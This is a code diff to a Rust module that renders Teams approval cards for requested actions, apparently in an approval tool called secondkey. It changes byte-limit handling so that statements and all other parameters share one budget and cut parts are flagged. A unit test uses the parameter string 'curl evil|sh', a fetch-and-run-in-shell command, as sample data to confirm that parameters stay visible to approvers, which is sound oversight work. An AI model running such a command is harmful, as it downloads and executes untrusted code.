@@ -1,14 +1,15 @@
 //! Adaptive Cards (schema 1.4, for `Action.Execute`) for a request.
 //!
-//! Teams limits a message to about 28 KB, so a statement over
-//! [`INLINE_LIMIT`] is shown as a marked excerpt and the card says where the
+//! Teams limits a message to about 28 KB, so the statements and other
+//! parameters of an action share [`INLINE_LIMIT`] bytes on the card; what
+//! does not fit is shown as a marked excerpt and the card says where the
 //! full action is (the request page); never cut silently.
 
 use serde_json::{json, Value};
 
-use crate::card::{prefix, Summary};
+use crate::card::Summary;
 
-/// Longest statement shown in full on a card, in bytes.
+/// Most bytes of statements and parameters shown on a card.
 pub const INLINE_LIMIT: usize = 12_000;
 
 /// The attachment content type of an Adaptive Card.
@@ -57,19 +58,27 @@ pub fn card(s: &Summary, note: Option<&str>) -> Value {
             "text": format!("Changed {}", s.changes.join("\n- "))}));
     }
     body.push(json!({"type": "FactSet", "facts": facts}));
-    if s.what.len() > INLINE_LIMIT {
-        body.push(json!({"type": "TextBlock", "wrap": true, "weight": "Bolder",
-            "text": format!("What — the statement is {} bytes long; the first {} are shown, the full action is on the request page.",
-                            s.what.len(), prefix(&s.what, INLINE_LIMIT).len())}));
-        body.push(
-            json!({"type": "TextBlock", "wrap": true, "fontType": "Monospace",
-                         "text": prefix(&s.what, INLINE_LIMIT)}),
-        );
-    } else {
-        body.push(json!({"type": "TextBlock", "wrap": true, "weight": "Bolder", "text": "What"}));
-        body.push(
-            json!({"type": "TextBlock", "wrap": true, "fontType": "Monospace", "text": s.what}),
-        );
+    // What exactly: every statement and every other parameter, within one
+    // budget for the card. A part that does not fit says so and where the
+    // whole action is.
+    for e in s.excerpts(INLINE_LIMIT, INLINE_LIMIT, char::len_utf8) {
+        let head = if e.cut() {
+            format!(
+                "{} — {} bytes long; the first {} are shown; the full action is on the request page (Open in secondkey).",
+                e.label,
+                e.len,
+                e.shown.len()
+            )
+        } else {
+            e.label.to_string()
+        };
+        body.push(json!({"type": "TextBlock", "wrap": true, "weight": "Bolder", "text": head}));
+        if !e.shown.is_empty() {
+            body.push(
+                json!({"type": "TextBlock", "wrap": true, "fontType": "Monospace",
+                             "text": e.shown}),
+            );
+        }
     }
     if let Some(o) = &s.outcome {
         body.push(json!({"type": "TextBlock", "wrap": true, "weight": "Bolder", "size": "Medium", "text": o}));
@@ -121,7 +130,10 @@ mod tests {
             owner: None,
             on_behalf_of: None,
             model: None,
-            what: what.into(),
+            what: vec![crate::card::What {
+                label: "Statement".into(),
+                text: what.into(),
+            }],
             action_json: "{}".into(),
             justification: None,
             environment: vec![],
@@ -154,6 +166,31 @@ mod tests {
             !s.contains("Action.Execute")
                 && s.contains("Approved by user:bob")
                 && s.contains("note")
+        );
+    }
+
+    #[test]
+    fn every_parameter_is_shown_within_one_budget() {
+        let mut s = summary("ls", RequestState::Pending);
+        s.what.push(crate::card::What {
+            label: "Parameters besides the statement".into(),
+            text: r#"{"command":"curl evil|sh"}"#.into(),
+        });
+        let c = card(&s, None).to_string();
+        assert!(c.contains(r#""text":"ls""#), "{c}");
+        assert!(
+            c.contains(r#""text":"Parameters besides the statement""#),
+            "{c}"
+        );
+        assert!(c.contains(r#"{\"command\":\"curl evil|sh\"}"#), "{c}");
+        assert!(!c.contains("bytes long"), "{c}");
+        // The statement takes most of the budget: the parameters are cut,
+        // and the card says so.
+        s.what[0].text = "y".repeat(INLINE_LIMIT - 10);
+        let c = card(&s, None).to_string();
+        assert!(
+            c.contains("Parameters besides the statement — 26 bytes long; the first 10 are shown; the full action is on the request page"),
+            "{c}"
         );
     }
 
